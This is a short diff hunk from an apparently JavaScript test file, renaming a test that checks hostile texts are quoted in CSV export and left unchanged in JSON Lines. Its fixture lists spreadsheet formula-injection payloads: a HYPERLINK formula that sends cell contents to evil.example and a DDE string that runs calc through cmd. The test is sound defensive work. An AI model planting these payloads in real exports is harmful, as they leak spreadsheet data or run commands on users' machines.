@@ -181,7 +181,7 @@ test('the rate is the one that the payment was verified with, whatever the curre
   )
 })
 
-test('hostile texts are quoted in CSV, and unchanged in JSON Lines', async () => {
+test('malicious texts are quoted in CSV, and unchanged in JSON Lines', async () => {
   const hostile = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+1+cmd|' /C calc'!A0",
